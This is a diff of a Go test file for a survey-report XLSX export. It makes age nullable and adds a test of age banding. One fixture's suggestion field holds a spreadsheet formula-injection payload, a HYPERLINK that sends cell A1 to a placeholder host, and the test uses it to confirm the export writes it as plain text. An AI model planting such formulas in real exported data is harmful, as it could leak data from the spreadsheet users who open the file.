@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"io"
 	"log/slog"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"slices"
@@ -39,9 +40,12 @@ type exportResp struct {
 	status  string
 	scores  [9]int // 0 = not answered
 	jk      string
-	usia    int
+	usia    *int // nil = not answered
 	saran   string
 }
+
+// age is an answered age.
+func age(n int) *int { return &n }
 
 // storeResponses stores responses as the engine would: a respondent, a session, a response.
 func exportStore(t *testing.T, db *storage.DB, rs []exportResp) {
@@ -74,9 +78,7 @@ func exportStore(t *testing.T, db *storage.DB, rs []exportResp) {
 				resp.Scores[j] = &v
 			}
 		}
-		if f.usia > 0 {
-			resp.Usia = &f.usia
-		}
+		resp.Usia = f.usia
 		err = db.InTx(ctx, func(tx *storage.Tx) error {
 			if resp.RespondentID, err = tx.Respondent(fmt.Sprintf("web-export-%d", i), at.UnixMilli()); err != nil {
 				return err
@@ -111,14 +113,14 @@ func exportFixtures(t *testing.T, db *storage.DB) []exportResp {
 		t.Fatal(err)
 	}
 	rs := []exportResp{
-		{a, &ktp, "2026-01-05T02:30:00Z", storage.ResponseComplete, [9]int{4, 4, 4, 4, 4, 4, 4, 4, 4}, "L", 34, `Antre "lama", tapi ramah`},
-		{b, nil, "2026-01-06T03:00:00Z", storage.ResponseComplete, [9]int{2, 2, 2, 2, 2, 2, 2, 2, 2}, "P", 0, ""},
-		{a, nil, "2026-01-07T04:15:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 1, 0}, "", 0, "Toilet kotor"},
-		{a, nil, "2026-01-08T05:00:00Z", storage.ResponsePartial, [9]int{1}, "", 0, ""},
-		{a, nil, "2026-03-01T05:00:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}, "", 0, ""},
+		{a, &ktp, "2026-01-05T02:30:00Z", storage.ResponseComplete, [9]int{4, 4, 4, 4, 4, 4, 4, 4, 4}, "L", age(34), `Antre "lama", tapi ramah`},
+		{b, nil, "2026-01-06T03:00:00Z", storage.ResponseComplete, [9]int{2, 2, 2, 2, 2, 2, 2, 2, 2}, "P", nil, ""},
+		{a, nil, "2026-01-07T04:15:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 1, 0}, "", nil, "Toilet kotor"},
+		{a, nil, "2026-01-08T05:00:00Z", storage.ResponsePartial, [9]int{1}, "", nil, ""},
+		{a, nil, "2026-03-01T05:00:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}, "", nil, ""},
 		// Complete, but no element scored: exported, yet no respondent (scoring.Scored); its
 		// suggestion is a spreadsheet formula, exported as text.
-		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", 40, `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`},
+		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", age(40), `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`},
 	}
 	exportStore(t, db, rs)
 	return rs
@@ -298,6 +300,55 @@ func TestReportXLSX(t *testing.T) {
 				t.Errorf("IKM %q, want %q", got, want)
 			}
 		})
+	})
+}
+
+// A custom flow may allow age 0. The workbook's profile and the API's (the profile query)
+// must band it alike, "<15", and keep a missing age apart, as "Tidak diisi".
+func TestReportXLSXBandsAgesAsTheAPIProfileDoes(t *testing.T) {
+	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
+		u, err := db.CreateUnit(context.Background(), storage.NewUnit{Code: "USIA", Name: "Posyandu Contoh"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		all3 := [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}
+		var rs []exportResp
+		for i, a := range []*int{age(0), age(0), nil, age(14), age(15), age(70)} {
+			rs = append(rs, exportResp{u, nil, fmt.Sprintf("2026-02-%02dT03:00:00Z", i+1), storage.ResponseComplete, all3, "P", a, ""})
+		}
+		exportStore(t, db, rs)
+		p, err := db.Profile(context.Background(), storage.Filter{UnitIDs: []int64{u.ID}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := map[string]string{}
+		for _, c := range p.Usia {
+			want[c.Key] = fmt.Sprint(c.Count)
+		}
+		if want[scoring.AgeUnder15] != "3" || want["tidak diisi"] != "1" {
+			t.Fatalf("the API's profile %+v: want 3 under 15 (0, 0 and 14) and 1 not given", p.Usia)
+		}
+		f := exportXLSX(t, exportServer(t, db), "/api/v1/report.xlsx?unit=USIA&from=2026-02-01&to=2026-02-28")
+		rows, err := f.GetRows(report.SheetProfil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got, in := map[string]string{}, false
+		for _, r := range rows {
+			switch {
+			case len(r) > 0 && r[0] == "Usia":
+				in = true
+			case len(r) < 2:
+				in = false
+			case in && r[0] == "Tidak diisi":
+				got["tidak diisi"] = r[1]
+			case in:
+				got[strings.NewReplacer(" tahun", "", "< ", "<", "≥ ", "≥").Replace(r[0])] = r[1]
+			}
+		}
+		if !maps.Equal(got, want) {
+			t.Errorf("the workbook's ages %v, the API's %v", got, want)
+		}
 	})
 }
 
